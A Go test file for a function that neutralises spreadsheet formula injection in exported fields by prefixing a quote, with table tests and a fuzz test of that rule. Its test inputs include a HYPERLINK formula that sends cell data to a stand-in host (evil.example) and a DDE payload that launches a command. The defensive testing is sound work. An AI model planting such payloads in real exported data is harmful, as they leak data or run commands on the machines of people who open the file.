package transfer

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestNeutralize(t *testing.T) {
	t.Parallel()
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?d="&A1,"Click")`, `'=HYPERLINK("http://evil.example/?d="&A1,"Click")`},
		{`=cmd|' /C calc'!A0`, `'=cmd|' /C calc'!A0`},
		{"@SUM(1)", "'@SUM(1)"},
		{"-2+3", "'-2+3"},
		{"+1+1", "'+1+1"},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"\x00=1+1", "'\x00=1+1"},
		{" =1+1", "' =1+1"},         // a program that trims the field would see =1+1
		{"\n@SUM(1)", "'\n@SUM(1)"}, // likewise
		// Phone numbers are prefixed too: unprefixed, a spreadsheet evaluates them (see neutralize.go).
		{"+358 40 123 4567", "'+358 40 123 4567"},
		{"+46 8 123 456 78", "'+46 8 123 456 78"},
		{"+1 (555) 123-4567", "'+1 (555) 123-4567"},
		// Left alone.
		{"040 123 4567", "040 123 4567"},
		{"Äijälä Oy, Tampere", "Äijälä Oy, Tampere"},
		{"a=b", "a=b"},
		{"'=1+1", "'=1+1"},
		{"  indented", "  indented"},
		{"", ""},
		{"   ", "   "},
	} {
		if got := Neutralize(tc.in); got != tc.want {
			t.Errorf("Neutralize(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestPlainNumber(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]bool{
		"-12": true, "-0.5": true, "-1234,50": true,
		"-": false, "-.5": false, "-1+1": false, "-1 234": false, "-1e5": false, "12": false, "-A1": false,
	} {
		if got := plainNumber(in); got != want {
			t.Errorf("plainNumber(%q) = %v, want %v", in, got, want)
		}
	}
}

// FuzzNeutralize checks the rule's promises: the output cannot start a formula (also after the leading
// whitespace a trimming program drops) unless it starts with the quote; the only change is that quote,
// never added to text starting with a letter or digit; and neutralising twice changes nothing more.
func FuzzNeutralize(f *testing.F) {
	for _, s := range []string{"", "=1+1", "+358 40 123 4567", "-2+3", "@SUM(1)", "\t=1", "\r=1", " =1", "\n\n-1",
		"'=1", "''", "Äijälä", "\x00", " \v\f\n"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		out := Neutralize(s)
		trimmed := strings.TrimLeft(out, " \n\v\f")
		if trimmed != "" && strings.IndexByte("=+-@\t\r\x00", trimmed[0]) >= 0 && out[0] != '\'' {
			t.Fatalf("Neutralize(%q) = %q can start a formula", s, out)
		}
		if out != s && out != "'"+s {
			t.Fatalf("Neutralize(%q) = %q changed more than a leading quote", s, out)
		}
		if out != s && s != "" && (unicode.IsLetter(rune(s[0])) || unicode.IsDigit(rune(s[0])) || s[0] >= utf8.RuneSelf) {
			t.Fatalf("Neutralize(%q) = %q prefixed a value that cannot start a formula", s, out)
		}
		if again := Neutralize(out); again != out {
			t.Fatalf("Neutralize not idempotent: %q -> %q -> %q", s, out, again)
		}
	})
}
